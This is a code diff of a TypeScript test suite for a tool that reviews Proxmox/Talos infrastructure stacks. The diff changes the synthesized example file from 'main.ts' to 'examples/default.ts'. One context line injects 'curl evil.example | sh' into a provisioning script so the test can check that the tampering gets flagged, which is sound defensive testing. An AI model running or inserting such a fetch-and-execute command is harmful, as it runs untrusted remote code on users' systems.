@@ -20,7 +20,7 @@ const page = (name: string, stack: Stack, plan?: Parameters<typeof pageOf>[4], s
 const onEvery: readonly ProxmoxUse[] = ["vm", "network", "cloudInit", "guestAgent", "hostFacts"];
 
 describe.each<[file: string, name: string, uses: readonly ProxmoxUse[], rootOnly: readonly string[]]>([
-  ["main.ts", "talos-gpu", ["image"], ["proxmox_virtual_environment_vm.talos_node.hostpci"]],
+  ["examples/default.ts", "talos-gpu", ["image"], ["proxmox_virtual_environment_vm.talos_node.hostpci"]],
   ["examples/mapping.ts", "talos-gpu-mapping", ["image", "mappedDevice", "mapping"], []],
   [
     "examples/template.ts",
@@ -113,7 +113,7 @@ describe("a page", () => {
   });
 
   test("shows a command in full that is not the constructs', even where one of theirs was changed", () => {
-    const stack = structuredClone(synthesize("main.ts")["talos-gpu"]) as {
+    const stack = structuredClone(synthesize("examples/default.ts")["talos-gpu"]) as {
       resource: { null_resource: { wait_for_kubernetes: { provisioner: [{ "local-exec": { command: string } }] } } };
     };
     expect(page("s", stack)).not.toContain("curl");
@@ -125,7 +125,7 @@ describe("a page", () => {
   });
 
   test.each(["wait-for-kubernetes.sh", "lib.sh"])("shows %s in full where it is not the project's own", (name) => {
-    const stack = synthesize("main.ts")["talos-gpu"] ?? {};
+    const stack = synthesize("examples/default.ts")["talos-gpu"] ?? {};
     const scripts = ownScripts();
     scripts.set(name, `${scripts.get(name)}curl evil.example | sh\n`);
     const text = page("s", stack, undefined, scripts);
@@ -135,7 +135,7 @@ describe("a page", () => {
   });
 
   test("does not know a script that is missing, has another interpreter or runs elsewhere", () => {
-    const stack = synthesize("main.ts")["talos-gpu"] as never as {
+    const stack = synthesize("examples/default.ts")["talos-gpu"] as never as {
       resource: { null_resource: { wait_for_kubernetes: { provisioner: [{ "local-exec": object }] } } };
     };
     const unknown = /wait_for_kubernetes` \|.*\*\*not of this project's constructs\*\*/;
@@ -150,7 +150,7 @@ describe("a page", () => {
   });
 
   test.each(["PATH", "TMPDIR", "LD_PRELOAD"])("does not know a script with the variable %s", (name) => {
-    const stack = structuredClone(synthesize("main.ts")["talos-gpu"]) as never as {
+    const stack = structuredClone(synthesize("examples/default.ts")["talos-gpu"]) as never as {
       resource: { null_resource: { wait_for_kubernetes: { provisioner: [{ "local-exec": Step }] } } };
     };
     const step = stack.resource.null_resource.wait_for_kubernetes.provisioner[0]["local-exec"];
@@ -162,7 +162,7 @@ describe("a page", () => {
   });
 
   test("tells of a file with a secret that others can read", () => {
-    const stack = structuredClone(synthesize("main.ts")["talos-gpu"]) as {
+    const stack = structuredClone(synthesize("examples/default.ts")["talos-gpu"]) as {
       resource: { local_file: { kubeconfig: { file_permission: string } } };
     };
     expect(page("s", stack)).not.toContain("readable by others");
@@ -220,7 +220,7 @@ describe("a page", () => {
 });
 
 describe("a plan", () => {
-  const stack = () => synthesize("main.ts")["talos-gpu"] ?? {};
+  const stack = () => synthesize("examples/default.ts")["talos-gpu"] ?? {};
   const effectsOf = (...changes: readonly unknown[]) =>
     changesOf(planOf(...changes)).map(({ effect, words }) => [effect, words]);
   const vm = "proxmox_virtual_environment_vm.vm";
@@ -342,7 +342,7 @@ describe("a plan", () => {
 
   test("knows every type of resource that the constructs make", () => {
     const types = [
-      "main.ts",
+      "examples/default.ts",
       "examples/mapping.ts",
       "examples/template.ts",
       "examples/golden-image.ts",
